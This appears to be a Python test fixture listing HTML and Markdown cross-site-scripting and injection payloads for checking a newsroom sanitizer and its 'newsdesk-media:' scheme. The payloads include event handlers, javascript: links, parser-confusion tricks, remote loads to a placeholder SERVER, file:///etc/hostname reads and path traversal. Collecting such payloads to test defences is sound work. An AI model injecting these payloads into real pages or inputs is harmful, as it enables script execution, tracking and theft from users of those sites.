"""Pieces of HTML and Markdown that try to run something or to reach somebody.

SERVER stands for the address of a listening server; RUN for a script that leaves a mark in the page
and asks the server.
"""

RUN = "document.documentElement.id='ran';new Image().src='SERVER/ran'"

PAGE = "ab" * 32
"""The hash of a stored file that is a picture by its kind and a page by its content."""

HOSTILE = {
    # Scripts
    "a script": "<script>RUN</script>",
    "a script from elsewhere": "<script src='SERVER/script.js'></script>",
    "a module from elsewhere": "<script type=module src='SERVER/module.js'></script>",
    "a script in a drawing": "<svg><script>RUN</script></svg>",
    "a script in a template": "<template><script>RUN</script></template>",
    "a script after the page": "</article></main></body></html><script>RUN</script>",
    # Handlers
    "a picture that fails": '<img src="nowhere" onerror="RUN">',
    "a drawing that loads": '<svg onload="RUN"><circle r=1></svg>',
    "a body that loads": '<body onload="RUN">',
    "details that open": '<details open ontoggle="RUN"><summary>s</summary>d</details>',
    "a field with the focus": (
        '<input autofocus onfocus="RUN"><textarea autofocus onfocus="RUN"></textarea>'
    ),
    "a style that moves": (
        "<style>@keyframes k{from{color:red}}</style>"
        "<p style='animation:k 1s' onanimationstart=\"RUN\">p"
    ),
    "a film that starts": '<video src="SERVER/film" autoplay onloadstart="RUN"></video>',
    "a pointer over it": '<p onpointerover="RUN" onmouseover="RUN" onclick="RUN">p</p>',
    "a text that runs": '<marquee onstart="RUN" loop=1>m</marquee>',
    # Links
    "a script as a link": '<a href="javascript:RUN">a</a>',
    "the same in a newer spelling": '<a href="jav&#x09;asc&NewLine;ript:RUN">a</a>',
    "a page in a link": '<a href="data:text/html,<script>RUN</script>">a</a>',
    "a link that reports": '<a href="#x" ping="SERVER/ping">a</a>',
    "a link that saves": '<a href="SERVER/save" download>a</a>',
    "a drawing's link": (
        '<svg><a xlink:href="javascript:RUN" href="SERVER/link"><text y=9>t</text></a></svg>'
    ),
    "a map's link": (
        '<img usemap="#m" src="data:,"><map name=m><area shape=default href="SERVER/area"></map>'
    ),
    "a link that is set later": (
        '<svg><a><set attributeName=href to="javascript:RUN"/><text y=9>t</text></a></svg>'
    ),
    # Documents within
    "a frame": '<iframe src="SERVER/frame"></iframe>',
    "a frame with its text": (
        "<iframe srcdoc=\"<script>top.document.documentElement.id='ran'</script>\"></iframe>"
    ),
    "a frame that is a script": '<iframe src="javascript:parent.RUN"></iframe>',
    "objects": '<object data="SERVER/object"></object><embed src="SERVER/embed">',
    "frames": '<frameset><frame src="SERVER/frameset"></frameset>',
    # Things fetched
    "a picture": '<img src="SERVER/picture.png">',
    "pictures to choose from": (
        '<picture><source srcset="SERVER/source.png"><img srcset="SERVER/set.png 2x"></picture>'
    ),
    "a drawing's picture": (
        '<svg><image href="SERVER/image.png"/><use href="SERVER/use.svg#a"/></svg>'
    ),
    "a filter's picture": (
        '<svg><filter id=f><feImage href="SERVER/filter.png"/></filter>'
        '<rect width=9 height=9 filter="url(#f)"/></svg>'
    ),
    "a button's picture": '<input type=image src="SERVER/button.png">',
    "an old ground": (
        '<table background="SERVER/table.png"><tr><td background="SERVER/cell.png">c</table>'
    ),
    "sound with words": (
        '<audio src="SERVER/sound" autoplay></audio>'
        '<video poster="SERVER/poster.png"><track default src="SERVER/track"></video>'
    ),
    "a sheet": '<link rel=stylesheet href="SERVER/sheet.css">',
    "a sheet within": (
        "<style>@import 'SERVER/import.css'; body{background:url(SERVER/ground.png)}"
        "@font-face{font-family:f;src:url(SERVER/font)} p{font-family:f}</style><p>p"
    ),
    "a style": (
        '<p style="background:url(SERVER/style.png);list-style:url(SERVER/list.png)">s</p>'
    ),
    "things fetched before they are needed": (
        '<link rel=preload as=image href="SERVER/preload">'
        '<link rel=prefetch href="SERVER/prefetch"><link rel=icon href="SERVER/icon">'
        '<link rel=manifest href="SERVER/manifest">'
        '<link rel=modulepreload href="SERVER/modulepreload">'
    ),
    "a line opened before it is needed": (
        '<link rel=preconnect href="SERVER"><link rel=dns-prefetch href="SERVER">'
    ),
    "a file of this machine": '<img src="file:///etc/hostname"><a href="file:///etc/hostname">a</a>',
    # By way of the newsroom's pictures
    "a stored picture that fails": '<img src="newsdesk-media:0" onerror="RUN" onload="RUN">',
    "a page of the store": (
        f'<iframe src="newsdesk-media:{PAGE}"></iframe>'
        f'<object data="newsdesk-media:{PAGE}"></object>'
        f'<embed src="newsdesk-media:{PAGE}"><a href="newsdesk-media:{PAGE}" target=_top>a</a>'
    ),
    "a script of the store": (
        f'<script src="newsdesk-media:{PAGE}"></script>'
        f'<link rel=stylesheet href="newsdesk-media:{PAGE}">'
    ),
    "a drawing of the store": (
        f'<img src="newsdesk-media:{PAGE}"><svg><use href="newsdesk-media:{PAGE}#a"/></svg>'
    ),
    "a way through the store": (
        '<img src="newsdesk-media:SERVER/through.png"><img src="newsdesk-media://127.0.0.1/x.png">'
        '<img srcset="newsdesk-media:0 1x, SERVER/set.png 2x" src="newsdesk-media:../etc/hostname">'
    ),
    "a refresh into the store": (
        f'<meta http-equiv=refresh content="0;url=newsdesk-media:{PAGE}">'
    ),
    # Going away
    "a refresh": '<meta http-equiv=refresh content="0;url=SERVER/refresh">',
    "a refresh to nowhere else": '<meta http-equiv=refresh content="0">',
    "another base": '<base href="SERVER/base/"><img src="under-it.png"><a href="under-it">a</a>',
    "a form": (
        '<form action="SERVER/form"><button>b</button>'
        '<button formaction="javascript:RUN">c</button></form>'
    ),
    "a form that is a script": '<form action="javascript:RUN"><input type=submit></form>',
    # Read otherwise the second time
    "mathematics": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=RUN&gt;">'
    ),
    "no script": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "a comment that ends early": "<!--><img src=x onerror=RUN>-->",
    "character data": "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
    # Names that hide the document's own
    "hidden names": (
        "<img name=querySelector><img name=createElement><form name=documentElement>"
        "<img name=caretRangeFromPoint><img name=title></form>"
    ),
    # Markdown
    "a picture in Markdown": "![a chart](SERVER/markdown.png)",
    "a handler in Markdown": '![a" onerror="RUN](x.png)\n\npara\n{: onclick="RUN" #i }',
    "a stored picture in Markdown": (
        '![a](newsdesk-media:SERVER/stored.png) ![a](newsdesk-media:0"onerror="RUN) '
        '![a](<newsdesk-media:0" onerror="RUN>) ![" onerror="RUN](newsdesk-media:0)'
    ),
    "a script link in Markdown": "[a](javascript:RUN) [b](JaVaScRiPt&#58;RUN) <javascript:RUN>",
}
